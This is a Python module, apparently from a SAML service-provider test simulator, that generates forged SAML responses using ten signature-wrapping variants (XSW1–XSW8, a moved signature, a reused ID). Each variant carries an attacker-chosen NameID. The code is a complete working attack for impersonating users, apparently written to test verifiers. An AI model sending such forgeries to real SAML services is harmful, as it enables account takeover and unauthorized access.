"""Signature wrapping: an attacker's assertion beside, around or inside the signed one, so
that a verifier checks one element and the reader takes another. XSW1–XSW8 follow
Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012),
adapted to Entra's shape; plus a moved signature and a reused ID.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from enum import StrEnum
from functools import partial

from lxml import etree

from sp_sim.core.bindings import new_id
from sp_sim.core.xml import ASSERTION, DSIG, PROTOCOL, qname

_ASSERTION = qname(ASSERTION, "Assertion")
_NAMEID = f"{qname(ASSERTION, 'Subject')}/{qname(ASSERTION, 'NameID')}"
_SIGNATURE = qname(DSIG, "Signature")


def assertion_in(response: etree._Element) -> etree._Element:
    """The Response's Assertion; ValueError when it holds none."""
    found = response.find(_ASSERTION)
    if found is None:
        raise ValueError("the response holds no assertion")
    return found


def _require(element: etree._Element | None, what: str) -> etree._Element:
    if element is None:
        raise ValueError(f"the response holds no {what}")
    return element


def _evil_copy(assertion: etree._Element, name_id: str) -> etree._Element:
    """The attacker's assertion: a copy with another NameID, a new ID, no signature."""
    evil = copy.deepcopy(assertion)
    evil.set("ID", new_id())
    for signature in evil.findall(_SIGNATURE):
        evil.remove(signature)
    name = evil.find(_NAMEID)
    if name is not None:
        name.text = name_id
    return evil


def serialized(element: etree._Element) -> bytes:
    """The whole document an element belongs to, as bytes to send."""
    return etree.tostring(element.getroottree().getroot())


class Wrapping(StrEnum):
    """The signature-wrapping variants: XSW1–XSW8 (Somorovsky et al.), a signature moved
    into the evil assertion, and an evil assertion reusing the signed one's ID."""

    XSW1 = "xsw1"
    XSW2 = "xsw2"
    XSW3 = "xsw3"
    XSW4 = "xsw4"
    XSW5 = "xsw5"
    XSW6 = "xsw6"
    XSW7 = "xsw7"
    XSW8 = "xsw8"
    MOVED_SIGNATURE = "moved-signature"
    SAME_ID = "same-id"

    @property
    def attacks_response(self) -> bool:
        """XSW1 and XSW2 attack a signed Response; the others a signed Assertion."""
        return self in (Wrapping.XSW1, Wrapping.XSW2)


WRAPPING_VARIANTS = tuple(Wrapping)

_Element = etree._Element
# One wrapping step: (response, signed assertion, evil assertion, the signature) -> the root
# to send. A step may rearrange the response in place.
_Step = Callable[[_Element, _Element, _Element, _Element], _Element]


def _xsw1(response: _Element, _: _Element, evil: _Element, signature: _Element) -> _Element:
    """The signed Response moves into an Object of its signature, under a new root."""
    root = copy.deepcopy(response)
    root.set("ID", new_id())
    for child in list(root):
        if child.tag in (_ASSERTION, _SIGNATURE):
            root.remove(child)
    root.append(evil)
    moved = copy.deepcopy(signature)
    etree.SubElement(moved, qname(DSIG, "Object")).append(copy.deepcopy(response))
    root.insert(1, moved)
    return root


def _xsw2(response: _Element, _: _Element, evil: _Element, __: _Element) -> _Element:
    """The signed Response sits beside a detached signature, under a new root."""
    root = copy.deepcopy(response)
    root.set("ID", new_id())
    root.remove(_require(root.find(_ASSERTION), "assertion"))
    root.append(evil)
    root.insert(1, copy.deepcopy(response))
    return root


def _xsw3(response: _Element, original: _Element, evil: _Element, _: _Element) -> _Element:
    """The evil assertion first, the signed original after it."""
    original.addprevious(evil)
    return response


def _xsw4(response: _Element, original: _Element, evil: _Element, _: _Element) -> _Element:
    """The original nested inside the evil assertion."""
    original.addprevious(evil)
    response.remove(original)
    evil.append(original)
    return response


def _xsw5(response: _Element, original: _Element, evil: _Element, signature: _Element) -> _Element:
    """The evil assertion takes a copy of the signature; the original goes to the end."""
    original.addprevious(evil)
    evil.insert(1, copy.deepcopy(signature))
    response.remove(original)
    response.append(original)
    return response


def _in_object(
    response: _Element,
    original: _Element,
    evil: _Element,
    signature: _Element,
    *,
    keep_signature: bool,
) -> _Element:
    """XSW6 (XSW8: without its own signature): the original inside the evil assertion's
    Signature/Object."""
    moved = copy.deepcopy(signature)
    original.addprevious(evil)
    evil.insert(1, moved)
    response.remove(original)
    inner = copy.deepcopy(original)
    if not keep_signature:
        inner.remove(_require(inner.find(_SIGNATURE), "signature"))
    etree.SubElement(moved, qname(DSIG, "Object")).append(inner)
    return response


def _xsw7(response: _Element, original: _Element, evil: _Element, _: _Element) -> _Element:
    """The original hidden in Extensions."""
    extensions = etree.Element(qname(PROTOCOL, "Extensions"))
    original.addprevious(evil)
    response.remove(original)
    extensions.append(original)
    response.insert(1, extensions)
    return response


def _moved_signature(
    response: _Element, original: _Element, evil: _Element, signature: _Element
) -> _Element:
    """One assertion: the evil one, with the original's signature moved into it."""
    evil.insert(1, copy.deepcopy(signature))
    original.addprevious(evil)
    response.remove(original)
    return response


def _same_id(response: _Element, original: _Element, evil: _Element, _: _Element) -> _Element:
    """The evil assertion reuses the original's ID."""
    evil.set("ID", original.get("ID", ""))
    original.addprevious(evil)
    return response


_STEPS: dict[Wrapping, _Step] = {
    Wrapping.XSW1: _xsw1,
    Wrapping.XSW2: _xsw2,
    Wrapping.XSW3: _xsw3,
    Wrapping.XSW4: _xsw4,
    Wrapping.XSW5: _xsw5,
    Wrapping.XSW6: partial(_in_object, keep_signature=True),
    Wrapping.XSW7: _xsw7,
    Wrapping.XSW8: partial(_in_object, keep_signature=False),
    Wrapping.MOVED_SIGNATURE: _moved_signature,
    Wrapping.SAME_ID: _same_id,
}


def wrap(variant: Wrapping | str, name_id: str) -> Callable[[_Element], bytes]:
    """A signature-wrapping attack: the evil assertion carries `name_id`. Raises
    ValueError for an unknown variant."""
    try:
        chosen = Wrapping(variant)
    except ValueError:
        raise ValueError(f"unknown wrapping variant {variant!r}") from None

    def fault(response: _Element) -> bytes:
        original = assertion_in(response)
        evil = _evil_copy(original, name_id)
        holder = response if chosen.attacks_response else original
        signature = _require(holder.find(_SIGNATURE), "signature")
        return serialized(_STEPS[chosen](response, original, evil, signature))

    return fault
